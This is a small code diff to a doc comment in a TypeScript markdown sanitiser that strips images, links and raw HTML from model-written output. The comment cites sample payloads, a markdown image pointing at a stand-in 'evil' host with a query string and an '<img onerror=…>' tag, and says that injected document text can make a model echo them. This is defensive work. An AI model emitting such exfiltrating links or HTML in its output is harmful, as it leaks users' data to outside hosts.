@@ -9,7 +9,7 @@ export function parseMarkdown(markdown: string): Root {
 
 /**
  * Rewrites model-written markdown so that opening the exported file in any viewer fetches nothing
- * and runs nothing (SECURITY E17/P6): a contract can make a model echo `![x](https://evil/?q=…)` or
+ * and runs nothing: a contract can make a model echo `![x](https://evil/?q=…)` or
  * `<img onerror=…>`, and many viewers would load that image. Images become their alt text, links
  * become their text, raw HTML is escaped so it shows as text, and link definitions are dropped (so
  * a citation such as "[p. 4]" can never turn into a link). Everything else is left byte for byte.
